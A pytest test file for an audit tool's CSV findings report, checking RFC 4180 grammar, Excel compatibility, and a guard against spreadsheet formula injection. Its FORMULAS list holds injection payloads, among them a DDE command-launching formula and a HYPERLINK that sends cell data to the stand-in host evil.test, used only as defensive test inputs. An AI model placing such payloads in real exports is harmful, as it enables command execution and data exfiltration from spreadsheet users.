"""`findings.csv`: RFC 4180's grammar, spreadsheets and their formulas, nothing lost, nothing made better than it is."""

from __future__ import annotations

import copy
import csv
import io
import json
import random
from collections import Counter
from collections.abc import Iterator
from pathlib import Path
from typing import TYPE_CHECKING, Any

import duckdb
import pytest
from hypothesis import given
from hypothesis import strategies as st

from auditor.cli import queries
from auditor.reports.csv import BOM, COLUMNS, MAX_CELL, Csv, cell, records, spreadsheet_cell, why_no_finding
from auditor.reports.sanitize import visible

if TYPE_CHECKING:
    from tests import report_samples as samples
else:
    import report_samples as samples

NAMES = [*samples.SAMPLES, "large", "lifelike"]
FORMULAS = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.test?x="&A1)',
    "+1+1",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "\0=1",
    " =1",
    '"=1',
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(1)",
    "name;=1+1",
    'name;"=1+1',
    "name;; =1",
    "name\t=1",
    "name\n=1",
    "\ufeff=1",
)


def text_of(results: dict[str, Any]) -> str:
    return "".join(Csv().render(results))


def rows_of(results: dict[str, Any]) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text_of(results).removeprefix(BOM), newline=""), strict=True))


def sample_of(name: str) -> dict[str, Any]:
    results: dict[str, Any] = getattr(samples, name)()
    return results


def everywhere(said: str) -> dict[str, Any]:
    """A document with the same text wherever somebody else writes."""
    results = samples.typical()
    results["audit"] |= {"id": said, "standard": said, "finished_at": said}
    results["scope"]["accounts"][0]["name"] = said
    results["checks"][0]["title"] = said
    for one in results["requirements"]:
        one |= {"title": said, "statement": said, "reason": said}
    for one in results["findings"]:
        one |= {"message": said, "expected": said, "evidence": {said: said}}
        one["resource"] |= {"arn": f"{said}{one['id']}", "name": said, "type": said}
        one["waiver"] = {"reason": said, "approved_by": said, "expires": said}
    return results


# ---------------------------------------------------------------------------------------- RFC 4180


def rfc_4180(text: str) -> list[list[str]]:
    """The records of a file by the grammar of RFC 4180, section 2, with any character as TEXTDATA (RFC 7111).

    Raises ValueError where the text is not of that grammar: another line end, a stray quote, records of unequal length.
    """
    found: list[list[str]] = []
    at = 0
    while at < len(text):
        record, at = _record(text, at)
        found.append(record)
        if len(record) != len(found[0]):
            raise ValueError(f"record {len(found)} has {len(record)} fields, the first has {len(found[0])}")
    return found


def _record(text: str, at: int) -> tuple[list[str], int]:
    fields: list[str] = []
    while True:
        field, at = _escaped(text, at + 1) if text[at : at + 1] == '"' else _plain(text, at)
        fields.append(field)
        if text.startswith("\r\n", at) or at == len(text):
            return fields, at + 2
        if text[at] != ",":
            raise ValueError(f"{text[at]!r} after a field, at {at}")
        at += 1


def _plain(text: str, at: int) -> tuple[str, int]:
    start = at
    while at < len(text) and text[at] not in ',"\r\n':
        at += 1
    return text[start:at], at


def _escaped(text: str, at: int) -> tuple[str, int]:
    field = ""
    while True:
        end = text.find('"', at)
        if end < 0:
            raise ValueError("a quote is never closed")
        field += text[at:end]
        if text[end + 1 : end + 2] != '"':
            return field, end + 1
        field, at = field + '"', end + 2


@pytest.mark.parametrize(
    ("text", "said"),
    [
        ("a,b\r\n1\r\n", "1 fields"),
        ("a,b\r\n1,2,3\r\n", "3 fields"),
        ("a,b\n1,2\n", "after a field"),
        ("a,b\r1,2\r", "after a field"),
        ('a,b\r\n1,2"3\r\n', "after a field"),
        ('a,b\r\n"1"2,3\r\n', "after a field"),
        ('a,b\r\n"1,2\r\n', "never closed"),
    ],
)
def test_the_checker_rejects_what_is_not_of_the_grammar(text: str, said: str) -> None:
    with pytest.raises(ValueError, match=said):
        rfc_4180(text)


def test_the_checker_reads_what_is_of_the_grammar() -> None:
    assert rfc_4180('a,b\r\n"x,""y""\r\nz",\r\n') == [["a", "b"], ['x,"y"\r\nz', ""]]
    assert rfc_4180("a,b\r\n1,2") == [["a", "b"], ["1", "2"]]


@pytest.mark.parametrize("name", NAMES)
def test_every_sample_is_of_the_grammar_and_read_alike_by_two_readers(name: str) -> None:
    text = text_of(sample_of(name)).removeprefix(BOM)
    read = rfc_4180(text)
    assert read == list(csv.reader(io.StringIO(text, newline=""), strict=True))
    assert read[0] == list(COLUMNS)


@pytest.mark.parametrize("said", [*samples.HOSTILE, *FORMULAS])
def test_hostile_text_anywhere_keeps_a_record_one_line(said: str) -> None:
    text = text_of(everywhere(said)).removeprefix(BOM)
    lines = text.split("\r\n")
    assert lines.pop() == ""
    assert len(lines) == len(rfc_4180(text)) == 1 + 8 + 2
    assert all(line.isprintable() for line in lines)


# ---------------------------------------------------------------------------------------- golden files and readers


def test_the_file_begins_with_the_mark_by_which_excel_knows_utf_8_and_has_no_other() -> None:
    text = text_of(everywhere("\ufeffZürich 東京 👍"))
    assert text.encode().startswith(b"\xef\xbb\xbffinding_id,")
    assert text.count(BOM) == 1
    assert "Zürich 東京 👍" in text


def test_another_program_reads_the_same_rows(tmp_path: Path) -> None:
    path = tmp_path / Csv.filename
    path.write_bytes(text_of(samples.lifelike()).encode())
    with duckdb.connect() as connection:
        read = connection.execute(
            "SELECT finding_id, status, account FROM read_csv(?, all_varchar = true, strict_mode = true)", [str(path)]
        ).fetchall()
    expected = [
        (row["finding_id"] or None, row["status"], row["account"] or None) for row in rows_of(sample_of("lifelike"))
    ]
    assert read == expected


@pytest.mark.parametrize("name", NAMES)
def test_rendering_is_deterministic_leaves_the_results_alone_and_gives_a_record_at_a_time(name: str) -> None:
    results = sample_of(name)
    before, shuffled = copy.deepcopy(results), copy.deepcopy(results)
    for part in ("findings", "requirements", "checks"):
        random.Random(7).shuffle(shuffled[part])  # noqa: S311 - a shuffled deck, not a secret
    pieces = list(Csv().render(results))
    assert "".join(pieces) == text_of(shuffled)
    assert results == before
    assert all(piece.count("\r\n") <= 1 for piece in pieces)


# ---------------------------------------------------------------------------------------- what is in it


@pytest.mark.parametrize("name", NAMES)
def test_every_finding_and_every_requirement_is_there_with_its_own_status(name: str) -> None:
    results = sample_of(name)
    rows = rows_of(results)
    found = {row["finding_id"]: row["status"] for row in rows if row["finding_id"]}
    assert found == {one["id"]: one["status"] for one in results["findings"]}
    bare = {row["requirements"]: row["status"] for row in rows if not row["finding_id"]}
    assert {**bare}.items() <= {one["id"]: one["status"] for one in results["requirements"]}.items()
    assert {one for row in rows for one in row["requirements"].split()} == {
        one["id"] for one in results["requirements"]
    }
    assert len(rows) == len(results["findings"]) + len(bare)


STATUSES = [("fail", "fail"), ("unknown", "unknown"), ("waived", "waived"), ("pass", "pass")]


@pytest.mark.parametrize(("status", "shown"), [*STATUSES, ("not_applicable", "not_applicable")])
def test_each_status_is_shown_in_its_own_word(status: str, shown: str) -> None:
    results = samples.document(
        [samples.requirement("DB-05", "Title", "Statement")],
        [samples.check("database-encrypted", "DB-05", "Databases are encrypted")],
        [samples.finding("database-encrypted", "DB-05", status, "orders")],
    )
    assert [row["status"] for row in rows_of(results)] == [shown]


def test_the_worst_comes_first() -> None:
    rows = rows_of(samples.typical())
    assert [row["status"] for row in rows] == [
        *["fail"] * 4,
        "unknown",
        "waived",
        *["pass"] * 3,
        "not_applicable",
    ]
    assert [row["severity"] for row in rows if row["status"] == "pass"] == ["critical", "critical", "low"]


def test_a_finding_has_what_a_reader_needs_to_act_on_it() -> None:
    row = next(row for row in rows_of(samples.typical()) if row["resource_name"] == "prod/orders")
    assert row | {"finding_id": "", "evidence": ""} == {
        **dict.fromkeys(COLUMNS, ""),
        "status": "fail",
        "severity": "critical",
        "requirements": "SEC-01 DB-05",
        "check": "secret-rotates",
        "check_title": "Secrets rotate automatically, often enough",
        "account": samples.TRADING,
        "account_name": "trading",
        "region": "us-east-1",
        "resource_type": "AWS::SecretsManager::Secret",
        "resource_name": "prod/orders",
        "arn": f"arn:aws:secretsmanager:us-east-1:{samples.TRADING}:secret/prod/orders",
        "message": "rotates every 90 days, at most 30 are allowed",
        "expected": "as the requirement says",
        "standard": "trading-dr",
        "audit_id": "2026-11-21T10-00-00Z-trading-dr",
        "finished_at": "2026-11-21T10:00:42Z",
    }


@pytest.mark.parametrize(
    ("requirement", "why"),
    [
        ({"status": "unknown", "checks": [], "reason": "No such table."}, "No such table."),
        ({"status": "unknown", "checks": []}, "No check evaluates it."),
        ({"status": "not_applicable", "checks": ["x"]}, "There was nothing to look at."),
        ({"status": "unknown", "checks": ["x"]}, "It has no finding."),
    ],
)
def test_a_requirement_without_findings_says_why(requirement: dict[str, Any], why: str) -> None:
    assert why_no_finding(requirement) == why


def test_a_requirement_without_findings_has_its_title_statement_and_reason() -> None:
    row = next(row for row in rows_of(samples.typical()) if row["requirements"] == "CMP-04")
    assert (row["status"], row["severity"]) == ("unknown", "high")
    assert row["message"] == "Database failover is automated: No check evaluates it."
    assert row["expected"] == "A function is subscribed to the topic."
    assert row["audit_id"] == "2026-11-21T10-00-00Z-trading-dr"
    assert not row["finding_id"] + row["check"] + row["arn"] + row["evidence"]


@pytest.mark.parametrize(
    ("status", "waiver", "state"),
    [
        ("waived", {"reason": "pilot", "expired": False}, "in_force"),
        ("waived", {"reason": "pilot"}, "in_force"),
        ("fail", {"reason": "pilot", "expired": True}, "expired"),
        ("fail", {"reason": "pilot"}, ""),
        ("pass", {"reason": "pilot", "expired": False}, ""),
        ("fail", None, ""),
    ],
)
def test_only_what_is_waived_has_a_waiver_in_force(status: str, waiver: dict[str, Any] | None, state: str) -> None:
    results = samples.typical()
    results["findings"] = [samples.finding("database-encrypted", "DB-05", status, "orders", waiver=waiver)]
    row = next(row for row in rows_of(results) if row["finding_id"])
    assert (row["status"], row["waiver_state"], row["waiver_reason"]) == (
        status,
        state,
        (waiver or {}).get("reason", ""),
    )


def test_the_remediation_is_not_repeated_in_every_row() -> None:
    assert samples.typical()["findings"][0]["remediation"] not in text_of(samples.typical())


@pytest.mark.parametrize("name", NAMES)
def test_evidence_is_json_that_keeps_every_value(name: str) -> None:
    results = sample_of(name)
    evidence = {row["finding_id"]: row["evidence"] for row in rows_of(results)}
    for one in results["findings"]:
        assert json.loads(evidence[one["id"]]) == one["evidence"]
        assert evidence[one["id"]].isprintable()


def test_evidence_has_no_number_that_json_lacks() -> None:
    assert json.loads(cell({"lag": float("nan"), "all": [float("inf"), 0.5]})) == {
        "lag": "NaN",
        "all": ["Infinity", 0.5],
    }


def test_no_findings_and_no_requirements_give_the_headings_alone() -> None:
    assert text_of(samples.empty()) == f"{BOM}{','.join(COLUMNS)}\r\n"


# ---------------------------------------------------------------------------------------- spreadsheets


def formulas(text: str) -> Iterator[str]:
    """Cells that a spreadsheet would take for formulas, separating by commas, semicolons or tabs."""
    for delimiter in ",;\t":
        for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter):
            yield from (one for one in row if one.lstrip(' "\0\ufeff\r\n').startswith(tuple("=+-@＝＋－＠")))  # noqa: RUF001


@pytest.mark.parametrize("said", FORMULAS)
def test_the_model_of_a_spreadsheet_sees_each_formula_that_is_not_guarded(said: str) -> None:
    file = io.StringIO(newline="")
    csv.writer(file).writerows([["name", "other"], ["x", said]])
    assert list(formulas(file.getvalue()))


@pytest.mark.parametrize("said", [*samples.HOSTILE, *FORMULAS])
def test_no_text_anywhere_is_a_formula(said: str) -> None:
    assert not list(formulas(text_of(everywhere(said)).removeprefix(BOM)))


@pytest.mark.parametrize(
    ("text", "guarded"),
    [
        ("=1", "'=1"),
        ("  =1", "  '=1"),
        ("a;=1;b;@x", "a;'=1;b;'@x"),
        ("\tplain", "'\tplain"),
        ("-", "'-"),
        ("prod-orders", "prod-orders"),
        ("a=b", "a=b"),
        ("'=1", "'=1"),
        ("", ""),
    ],
)
def test_the_guard_changes_what_opens_a_formula_and_nothing_else(text: str, guarded: str) -> None:
    assert spreadsheet_cell(text) == guarded


def test_queries_have_the_same_guard_and_their_numbers_stay_numbers() -> None:
    answer = ["=name", "n", "tags"], [("a;=1", -5, {"k": ";=1"}), (None, 0.5, None)]
    shown = queries._RENDER["csv"](*answer)  # noqa: SLF001 - without a snapshot around it
    assert list(csv.reader(io.StringIO(shown))) == [
        ["'=name", "n", "tags"],
        ["a;'=1", "-5", '{"k":";\'=1"}'],
        ["", "0.5", ""],
    ]


def units(text: str) -> int:
    return len(text.encode("utf-16-le")) // 2


@pytest.mark.parametrize("character", ["x", "é", "👍"])
def test_a_cell_is_as_long_as_excel_allows_and_says_that_it_was_cut(character: str) -> None:
    whole = character * (MAX_CELL // units(character))
    assert cell(whole) == whole
    found = cell(whole + character * 10)
    assert MAX_CELL - 1 <= units(found) <= MAX_CELL
    assert found.startswith(character * 100)
    assert found.endswith(f"{character}… [cut: all of its {len(whole) + 10:,} characters are in results.json]")


def test_a_long_cell_that_would_be_a_formula_is_cut_and_guarded() -> None:
    found = cell("=" + "1+" * MAX_CELL)
    assert found.startswith("'=1+")
    assert units(found) == MAX_CELL


@given(st.text(alphabet=st.characters()))
def test_a_cell_is_the_visible_text_and_no_formula(text: str) -> None:
    found = cell(text)
    assert found.isprintable()
    assert found.replace("'", "") == visible(text).replace("'", "")
    line = "".join(records(["name"], [{"name": text}, {"name": text}]))
    assert [row for row in csv.reader(io.StringIO(line, newline=""), strict=True) if row] == [
        ["name"],
        [found],
        [found],
    ]
    assert not list(formulas(line))


def test_very_many_findings_are_counted_right() -> None:
    results = samples.large()
    counts = Counter(row["status"] for row in rows_of(results) if row["finding_id"])
    assert counts == {key: count for key, count in results["summary"]["findings"].items() if count}
